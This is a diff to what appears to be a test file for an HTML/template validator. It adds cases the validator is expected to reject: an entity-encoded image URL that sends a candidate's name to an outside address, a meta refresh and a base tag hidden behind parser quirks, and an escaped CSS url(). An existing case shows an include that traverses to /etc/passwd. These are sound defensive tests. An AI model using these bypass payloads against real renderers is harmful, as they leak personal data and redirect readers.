@@ -99,6 +99,15 @@ BROKEN = {
     "computed include": ('{% include "../" ~ "../etc/passwd" %}', "'..' may not be used"),
     "unknown filter": ("{{ candidate.name|shout }}", "No filter named 'shout'"),
     "external image": ('<img src="https://tracker.example/pixel.png">', "the HTML loads 'https://tracker"),
+    # What a browser's parser reads and a regex does not: each found on the rendered HTML's tree.
+    "entity-encoded image": ('<img src="&#104;ttp://127.0.0.1:9/?n={{ candidate.name }}">',
+                             "the HTML loads 'http://127.0.0.1:9/?n=Priya Raman'"),
+    "refresh after <!-->": ('<!--><meta http-equiv=refresh content="0;url=//x.invalid">',
+                            '<meta http-equiv="refresh"> sends the reader elsewhere'),
+    "base after </script x>": ("<script></script x><base href=//x.invalid>", "<base> changes"),
+    "escaped css url": ('<p style="background:u\\72l(//x.invalid/a)">x</p>',
+                        "the HTML loads '//x.invalid/a' from outside the brief (the style attribute"),
+    "relative image": ('<img src="logo.png">', "keep it to the PDF with {% if for_pdf %}"),
 }
 
 
